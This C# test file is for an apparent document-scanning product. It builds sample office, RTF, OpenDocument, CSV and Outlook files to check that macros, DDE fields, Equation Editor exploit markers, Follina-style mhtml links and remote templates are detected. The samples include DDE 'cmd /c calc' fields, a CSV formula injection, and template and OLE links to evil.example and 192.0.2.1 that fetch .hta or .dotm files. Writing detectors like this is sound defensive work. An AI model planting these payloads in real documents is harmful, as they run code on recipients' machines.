using System.Text;
using SecuEdge.Content.Documents.Ole;
using static SecuEdge.Content.ActiveContent;
using static SecuEdge.Content.Tests.Documents.OfficeSamples;

namespace SecuEdge.Content.Tests.Documents;

/// <summary>What office documents do when opened, by documents built here; and what harmless ones do not.</summary>
public sealed class OfficeDocumentTests
{
    private const string Dde = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"";

    public static readonly Dictionary<string, (string Name, byte[] Bytes, ActiveContent Expected)> Cases = new()
    {
        ["dropper"] = ("a.doc", WithMacro(Dropper), Macro | MacroAutoExec | MacroSuspicious),
        ["harmless macro"] = ("a.doc", WithMacro(Harmless), Macro),
        ["stomped"] = ("a.xls", WithMacro("", "_VBA_PROJECT_CUR/VBA", [1, .. new byte[50], .. "powershell"u8, .. new byte[200]]), Macro | MacroSuspicious),
        ["source replaced"] = ("a.doc", WithMacro(Harmless, compiledNames: [0xcc, 0x61, 0, 0, .. "AutoOpen"u8, 0]), Macro | MacroAutoExec | MacroSuspicious),
        ["unreadable project"] = ("a.doc", new CompoundFileWriter().Stream("Macros/VBA/dir", new byte[20]).Stream("Macros/VBA/_VBA_PROJECT", new byte[10]).Write(), Macro),
        ["macro in docm"] = ("a.docm", Zip([("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", "<w:document/>"u8.ToArray()), ("word/vbaProject.bin", WithMacro(Dropper, "VBA"))]), Macro | MacroAutoExec | MacroSuspicious),
        ["excel 4"] = ("a.xls", Xls(MacroSheet(), AutoOpenName()), ExcelMacro | MacroAutoExec),
        ["excel 4 exec"] = ("a.xls", Xls(MacroSheet(), (0x809, [0, 6, 0x40, 0]), (0x06, [.. new byte[20], 10, 0, 0x17, 4, 0, .. "calc"u8, 0x42, 1, 110])), ExcelMacro),
        ["excel 4 without compound file"] = ("a.xls", [9, 4, 6, 0, 0, 4, 0x40, 0, 0, 0, 6, 4, 25, 0, .. new byte[16], 7, 0, 0x17, 4, .. "calc"u8, 0x42, 1, 110, 0, 10, 0, 0, 0], ExcelMacro),
        ["excel dde"] = ("a.xls", Xls((0x1ae, [0, 0, 8, 0, 0, .. "cmd\u0003/c a"u8]), (0x23, [2, 0])), ActiveContent.Dde),
        ["macro in slides"] = ("a.ppt", PowerPoint(WithMacro(Dropper, "VBA")), Macro | MacroAutoExec | MacroSuspicious),
        ["word dde"] = ("a.doc", Word($"Hello \u0013{Dde}\u0014result\u0015 world"), ActiveContent.Dde),
        ["clean word"] = ("a.doc", Word("Hello \u0013HYPERLINK \"https://example.org/a\"\u0014here\u0015 world"), None),
        ["ole package"] = ("a.doc", new CompoundFileWriter().Stream("ObjectPool/_1/\u0001Ole10Native", Package("run.exe", Samples.Eicar)).Write(), EmbeddedFile),
        ["ole package in odd case"] = ("a.doc", new CompoundFileWriter().Stream("ObjectPool/_1/\u0001oLE10nATIVE", Package("run.exe", Samples.Eicar)).Write(), EmbeddedFile),
        ["equation class"] = ("a.doc", new CompoundFileWriter().Storage("ObjectPool/_1", Equation).Write(), Exploit),
        ["formula"] = ("a.doc", new CompoundFileWriter().Storage("ObjectPool/_1", Equation).Stream("ObjectPool/_1/Equation Native", Formula([8, 1, 1, .. "Symbol\0"u8, 2, 0x83, 0x78, 0, 0])).Write(), EmbeddedFile),
        ["formula with a font that breaks the editor"] = ("a.doc", new CompoundFileWriter().Storage("ObjectPool/_1", Equation).Stream("ObjectPool/_1/Equation Native", Formula([10, 8, 1, 1, .. Enumerable.Repeat((byte)'x', 48), 0])).Write(), Exploit),
        ["formula of the wrong length"] = ("a.doc", new CompoundFileWriter().Stream("ObjectPool/_1/Equation Native", Formula([0])[..30]).Write(), Exploit),
        ["formula in the wrong stream"] = ("a.doc", new CompoundFileWriter().Storage("ObjectPool/_1", Equation).Stream("ObjectPool/_1/\u0001Ole10Native", [9, 0, 0, 0, 3, 1, 1, 3, 10, 1, 8, 1, 1]).Write(), Exploit),
        ["formula in rtf"] = ("a.rtf", Rtf("{\\object{\\*\\objdata " + Hex(Ole1("Word.Document", new CompoundFileWriter().Storage("x", Equation).Stream("x/Equation Native", Formula([0])).Write())) + "}}"), Exploit),
        ["url moniker"] = ("a.doc", new CompoundFileWriter().Stream("\u0001Ole", [1, 0, 0, 2, 1, 0, 0, 0, .. UrlMoniker("http://192.0.2.1/a.hta")]).Write(), ExternalObject),
        ["template"] = ("a.docx", Docx(("word/_rels/settings.xml.rels", Relationship("attachedTemplate", "https://evil.example/a.dotm"))), ExternalTemplate),
        ["own template"] = ("a.docx", Docx(("word/_rels/settings.xml.rels", Relationship("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"))), None),
        ["unc template"] = ("a.docx", Docx(("word/_rels/settings.xml.rels", Relationship("attachedTemplate", "file:///\\\\192.0.2.1\\share\\a.dotm"))), ExternalTemplate),
        ["follina"] = ("a.docx", Docx(("word/_rels/document.xml.rels", Relationship("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"))), ExternalObject),
        ["remote picture"] = ("a.docx", Docx(("word/_rels/document.xml.rels", Relationship("image", "https://example.org/logo.png"))), None),
        ["unc picture"] = ("a.docx", Docx(("word/_rels/document.xml.rels", Relationship("image", "\\\\192.0.2.1\\a\\logo.png"))), ExternalObject),
        ["broken xml"] = ("a.docx", Docx(("word/_rels/settings.xml.rels", "<Relationships><Broken attr=><Relationship TargetMode='External' Type='x/attachedTemplate' Target='http&#58;//evil.example/a'")), ExternalTemplate),
        ["split dde"] = ("a.docx", Docx(("word/footer1.xml", "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>")), ActiveContent.Dde),
        ["dde over paragraphs"] = ("a.docx", Docx(("word/document2.xml", "<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>DDEA</w:instrText></w:r></w:p><w:p><w:r><w:instrText>UTO cmd \"/c calc\"</w:instrText><w:fldChar w:fldCharType='end'/></w:r></w:p>")), ActiveContent.Dde),
        ["simple dde"] = ("a.docx", Docx(("word/header1.xml", "<w:p><w:fldSimple w:instr='dde cmd \"/c calc\"'/></w:p>")), ActiveContent.Dde),
        ["dde link"] = ("a.xlsx", Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>")), ActiveContent.Dde),
        ["xlm in xlsm"] = ("a.xlsm", Xlsx(("xl/macrosheets/sheet1.xml", "<xm:macrosheet><c><f>EXEC(\"calc\")</f></c></xm:macrosheet>"), ("xl/names.xml", "<definedName name='_xlnm.Auto_Open' hidden='1'/>")), ExcelMacro | MacroAutoExec | MacroSuspicious),
        ["control"] = ("a.docx", Docx(("word/activeX/activeX1.xml", "<ax:ocx ax:classid='{8856F961-340A-11D0-A96B-00C04FD705A2}'/>")), Control),
        ["hover starts a program"] = ("a.pptx", Zip([("[Content_Types].xml", "<Types/>"u8.ToArray()), ("ppt/presentation.xml", "<p/>"u8.ToArray()), ("ppt/slides/slide1.xml", "<a:hlinkMouseOver action='ppaction://program'/>"u8.ToArray())]), Launch),
        ["ribbon onLoad"] = ("a.docx", Docx(("customUI/customUI.xml", "<customUI onLoad='start'/>")), Macro | MacroAutoExec),
        ["basic"] = ("a.odt", Odt(("Basic/Standard/Module1.xml", "<script:module script:name='Module1'>Sub Main\nShell(&quot;calc&quot;)\nEnd Sub</script:module>"), ("content.xml", "<office:document-content><script:event-listener script:event-name='dom:load' xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic'/></office:document-content>")), Macro | MacroAutoExec | MacroSuspicious),
        ["odf link"] = ("a.odt", Odt(("content.xml", "<text:section-source xlink:href='https://evil.example/a.odt'/>")), ExternalObject),
        ["odf dde"] = ("a.ods", Odt(("content.xml", "<office:dde-source office:dde-application='soffice' office:dde-topic='/a'/>")), ActiveContent.Dde),
        ["clean odf"] = ("a.odt", Odt(("content.xml", "<text:p>Hello <text:a xlink:href='https://example.org/b'>there</text:a></text:p>")), None),
        ["rtf package"] = ("a.rtf", Rtf("{\\object\\objemb{\\*\\objdata " + Hex(Ole1("Package", Package("run.js", Samples.Eicar)[4..])) + "}}"), EmbeddedFile),
        ["rtf equation"] = ("a.doc", Rtf("{\\object\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata " + Hex(Ole1("eQuAtIoN.3", new byte[40])) + "}}"), Exploit),
        ["rtf class id"] = ("a.rtf", Rtf("{\\object{\\*\\oleclsid \\'7b0002CE02-0000-0000-C000-000000000046\\'7d}}"), Exploit),
        ["rtf link"] = ("a.rtf", Rtf("{\\object\\objautlink\\objupdate{\\*\\objdata " + Hex(Ole1("OLE2Link", new CompoundFileWriter().Stream("\u0001Ole", [1, 0, 0, 2, 1, 0, 0, 0, .. UrlMoniker("http://192.0.2.1/a.hta")]).Write())) + "}}"), ExternalObject),
        ["rtf template"] = ("a.rtf", Rtf("{\\*\\template \\u104?ttp://evil.example/a.dotm}"), ExternalTemplate),
        ["rtf dde"] = ("a.rtf", Rtf("{\\field{\\*\\fldinst {DDE}{AUTO} cmd \"/c calc\"}{\\fldrslt x}}"), ActiveContent.Dde),
        ["clean rtf"] = ("a.rtf", Rtf("Hello {\\b world}{\\field{\\*\\fldinst HYPERLINK \"https://example.org/c\"}{\\fldrslt here}}"), None),
        ["sylk"] = ("a.slk", Encoding.ASCII.GetBytes("ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n"), ExcelMacro | MacroAutoExec | MacroSuspicious),
        ["table called ID"] = ("a.csv", Encoding.ASCII.GetBytes("ID;Product;Price\r\n1;Pen;2\r\n"), None),
        ["csv dde"] = ("a.csv", Encoding.ASCII.GetBytes("name,amount\r\nx,=cmd|'/c calc'!A0\r\n"), ActiveContent.Dde),
        ["csv with bars"] = ("a.csv", Encoding.ASCII.GetBytes("a|'b'|c = d\r\n"), None),
        ["iqy"] = ("a.iqy", Encoding.ASCII.GetBytes("WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n"), ExternalObject),
        ["onenote"] = ("a.one", OneNote("invoice.hta", Samples.Eicar), EmbeddedFile),
        ["activemime"] = ("a.mso", [.. "ActiveMime\0"u8, .. new byte[39], .. Deflate(WithMacro(Dropper))], Macro | MacroAutoExec | MacroSuspicious),
        ["word 2003 xml"] = ("a.xml", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument w:macrosPresent=\"yes\"><w:docSuppData><w:binData w:name=\"editdata.mso\">QWN0</w:binData></w:docSuppData></w:wordDocument>"), Macro),
    };

    public static TheoryData<string> Names => [.. Cases.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public void A_document_says_what_it_does_when_opened(string name)
    {
        var (file, bytes, expected) = Cases[name];
        using var anatomy = Samples.Examine(Samples.WithAttachment(bytes, file));
        Assert.True(expected == (anatomy.AllParts().First(part => part.FileName == file).Active & ~LiftedBesides(expected)), Describe(anatomy));
        Assert.Equal(expected != None, anatomy.Flags.HasFlag(AnatomyFlags.ActiveContent));
        Assert.Equal(expected != None, anatomy.AllParts().Any(part => part.Evidence.Count > 0));
    }

    [Theory]
    [InlineData("ole package")]
    [InlineData("ole package in odd case")]
    [InlineData("rtf package")]
    [InlineData("onenote")]
    public void A_file_inside_becomes_a_part(string name)
    {
        var (file, bytes, _) = Cases[name];
        using var anatomy = Samples.Examine(Samples.WithAttachment(bytes, file));
        Assert.Contains(anatomy.AllParts(), part => Samples.HasEicarByItself(part) && part.FileName is "run.exe" or "run.js" or "invoice.hta");
    }

    [Theory]
    [InlineData("\\u65{\\*\\objdata 0105 0000")]
    [InlineData("{\\*\\objdata 01 0{\\*\\x 99}5\r\n0000")]
    [InlineData("{\\*\\objdata 0105\\bin0 0000")]
    [InlineData("{\\*\\objdata\\foo12 0105\\'990000")]
    [InlineData("{\\*\\OBJDATA zz0105{}0000")]
    [InlineData("{\\*\\objdata \\bin4 \u0001\u0005\0\0")]
    public void Noise_in_object_data_hides_nothing(string beginning)
    {
        var rest = Hex(Ole1("Package", Package("run.js", Samples.Eicar)[4..]))[8..];
        using var anatomy = Samples.Examine(Samples.WithAttachment(Rtf("{\\object" + beginning + rest + "}}"), "a.doc"));
        Assert.Contains(anatomy.AllParts(), Samples.HasEicarByItself);
    }

    [Fact]
    public void A_stream_of_an_installer_becomes_a_part_under_its_true_name()
    {
        using var anatomy = Samples.Examine(Samples.WithAttachment(Installer("Binary.run.js", [.. "var a = 1; // "u8, .. Samples.Eicar]), "a.msi"));
        Assert.Contains(anatomy.AllParts(), part => part.FileName == "Binary.run.js" && Samples.HasEicar(part));
    }

    [Fact]
    public void Decoys_that_share_a_chain_use_up_nothing_of_what_comes_behind_them()
    {
        var file = new CompoundFileWriter().Stream("long", new byte[100_000]);
        for (var i = 0; i < 30; i++)
        {
            file.Stream($"{i:00}.exe", []);
        }

        var bytes = file.Stream("\u0001Ole10Native", Package("run.js", Samples.Eicar)).Write();
        for (var i = 0; i < 30; i++)
        {
            var entry = bytes.AsSpan(bytes.AsSpan().IndexOf(Encoding.Unicode.GetBytes($"{i:00}.exe")));
            BitConverter.TryWriteBytes(entry[116..], 0);
            BitConverter.TryWriteBytes(entry[120..], 100_000);
        }

        using var anatomy = Samples.Examine(Samples.WithAttachment(bytes, "a.doc"));
        Assert.True(anatomy.AllParts().Any(Samples.HasEicarByItself), Describe(anatomy));
    }

    [Fact]
    public void A_compound_file_that_claims_more_than_can_be_read_is_over_budget()
    {
        var file = new CompoundFileWriter().Stream("long", new byte[400_000]);
        for (var i = 0; i < 30; i++)
        {
            file.Stream($"{i:00}.exe", []);
        }

        var bytes = file.Write();
        for (var i = 0; i < 30; i++)
        {
            var entry = bytes.AsSpan(bytes.AsSpan().IndexOf(Encoding.Unicode.GetBytes($"{i:00}.exe")));
            BitConverter.TryWriteBytes(entry[116..], i);
            BitConverter.TryWriteBytes(entry[120..], 380_000);
        }

        using var anatomy = Samples.Examine(Samples.WithAttachment(bytes, "a.doc"));
        Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.OverBudget), Describe(anatomy));
    }

    [Fact]
    public void A_calendar_of_many_notes_is_read_in_the_time_of_its_length()
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        using var anatomy = Samples.Examine(Samples.WithAttachment(Encoding.ASCII.GetBytes("BEGIN:VCARD\r\n" + string.Concat(Enumerable.Repeat("NOTE:a\r\n", 120_000))), "a.vcf", "text/vcard"));
        Assert.Equal(239_999, anatomy.AllParts().Single(part => part.FileName == "a.vcf").Text.Length);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(4), $"{watch.Elapsed}");
    }

    [Fact]
    public void A_line_of_a_SYLK_table_that_is_longer_than_any_cell_is_over_budget()
    {
        using var anatomy = Samples.Examine(Samples.WithAttachment(Encoding.ASCII.GetBytes("ID;P\r\nC" + string.Concat(Enumerable.Repeat(";a", 100_000))), "a.slk"));
        Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.OverBudget), Describe(anatomy));
    }

    [Fact]
    public void The_source_of_a_macro_is_a_part()
    {
        using var anatomy = Samples.Examine(Samples.WithAttachment(WithMacro(Dropper), "a.doc"));
        var source = Assert.Single(anatomy.AllParts(), part => part.FileName == "Module1.bas");
        Assert.False(source.Flags.HasFlag(AnatomyFlags.Executable), "the source of a macro is no program that somebody attached");
        using var reader = new StreamReader(source.Content!.OpenRead());
        Assert.Equal(Dropper, reader.ReadToEnd());
        Assert.Contains(anatomy.AllParts(), part => part.Evidence.Contains("Module1: AutoOpen"));

        // Macros are told of the document; their source is no program that was attached.
        Assert.False(anatomy.Flags.HasFlag(AnatomyFlags.Executable));
    }

    [Fact]
    public void The_example_of_the_specification_is_decompressed()
    {
        // [MS-OVBA] §3.2.2
        var compressed = Convert.FromHexString("012FB000236161616263646582660070616768696A013808616B6C00306D6E6F7006710270041072737475761077787 97A003C".Replace(" ", "", StringComparison.Ordinal));
        Assert.Equal("#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa", Encoding.ASCII.GetString(VbaCompression.Decompress(compressed, 1000)));
    }

    [Fact]
    public void A_document_with_macros_under_a_name_without_is_a_mismatch()
    {
        using var anatomy = Samples.Examine(Samples.WithAttachment(Cases["macro in docm"].Bytes, "a.docx"));
        Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.TypeMismatch));
    }

    [Theory]
    [InlineData("a.docx", "EncryptedPackage", 64)]
    [InlineData("a.xls", "Workbook", 0)]
    [InlineData("a.doc", "WordDocument", 0)]
    [InlineData("a.ppt", "Current User", 0)]
    public void Encryption_is_seen(string name, string stream, int zeros)
    {
        byte[] content = stream switch
        {
            "Workbook" => Workbook((0x2f, [1, 0, 1, 0])),
            "WordDocument" => [0xec, 0xa5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, .. new byte[100]],
            "Current User" => [0, 0, 0xf6, 0x0f, 20, 0, 0, 0, 20, 0, 0, 0, 0xdf, 0xc4, 0xd1, 0xf3],
            _ => new byte[zeros],
        };
        using var anatomy = Samples.Examine(Samples.WithAttachment(new CompoundFileWriter().Stream(stream, content).Write(), name));
        Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.EncryptedArchive));
    }

    [Fact]
    public void An_encrypted_OpenDocument_is_seen()
    {
        var odt = Odt(("META-INF/manifest.XML", "<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"), ("content.xml", "garbage"));
        using var anatomy = Samples.Examine(Samples.WithAttachment(odt, "a.odt"));
        Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.EncryptedArchive));
    }

    [Fact]
    public void An_Outlook_message_shows_its_text_and_attachments()
    {
        var message = new CompoundFileWriter().Stream("__properties_version1.0", new byte[32]).Stream("__substg1.0_0037001F", Encoding.Unicode.GetBytes("The subject"))
            .Stream("__substg1.0_1000001F", Encoding.Unicode.GetBytes("The body")).Stream("__substg1.0_10130102", "<html><body><a href=\"https://example.org/d\">x</a></body></html>"u8.ToArray())
            .Stream("__attach_version1.0_#00000000/__properties_version1.0", new byte[8]).Stream("__attach_version1.0_#00000000/__substg1.0_37010102", Samples.Eicar)
            .Stream("__attach_version1.0_#00000000/__substg1.0_3707001F", Encoding.Unicode.GetBytes("eicar.com")).Write();
        using var anatomy = Samples.Examine(Samples.WithAttachment(message, "a.msg"));
        Assert.Contains(anatomy.AllParts(), part => part.FileName == "eicar.com" && Samples.HasEicarByItself(part));
        Assert.Contains(anatomy.AllParts(), part => part.Text == "The subject\nThe body");
        Assert.Contains(anatomy.AllParts(), part => part.FileName == "body.html");
    }

    [Fact]
    public void Compressed_RTF_of_Outlook_is_expanded()
    {
        // [MS-OXRTFCP] §3.1.1
        var compressed = Convert.FromHexString("2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0");
        Assert.Equal("{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n", Encoding.ASCII.GetString(CompressedRtf.Decompress(compressed, 1000)));
    }

    [Theory]
    [InlineData("clean word", "Hello here world", "https://example.org/a", "here")]
    [InlineData("clean odf", "Hello there", "https://example.org/b", "there")]
    [InlineData("clean rtf", "Hello worldhere", "https://example.org/c", "here")]
    public void Text_and_links_are_read(string name, string text, string url, string label)
    {
        var (file, bytes, _) = Cases[name];
        using var anatomy = Samples.Examine(Samples.WithAttachment(bytes, file));
        Assert.Contains(anatomy.AllParts(), part => part.Text == text);
        Assert.Contains(anatomy.Links, link => link.Url == url && link.Label == label);
    }

    [Fact]
    public void Relationships_in_another_encoding_are_read()
    {
        var rels = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + Relationship("attachedTemplate", "https://evil.example/a.dotm"))).ToArray();
        var docx = Zip([("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", "<w:document/>"u8.ToArray()), ("word/_rels/settings.xml.rels", rels)]);
        using var anatomy = Samples.Examine(Samples.WithAttachment(docx, "a.docx"));
        Assert.Contains(anatomy.AllParts(), part => part.Active.HasFlag(ExternalTemplate));
    }

    /// <summary>An object brings the class of its packager along; what is asked for is what the case is about.</summary>
    private static ActiveContent LiftedBesides(ActiveContent expected) =>
        (expected & (ExternalObject | Exploit)) != 0 ? EmbeddedFile : expected == ExcelMacro ? MacroSuspicious : None;

    private static string Describe(MessageAnatomy anatomy) =>
        string.Join('\n', anatomy.AllParts().Select(part => $"{part.Path} {part.DetectedType} {part.Active}: {string.Join(" ; ", part.Evidence)}")) + "\n" + string.Join('\n', anatomy.Troubles);

    private static string Hex(byte[] bytes) => Convert.ToHexString(bytes);
}
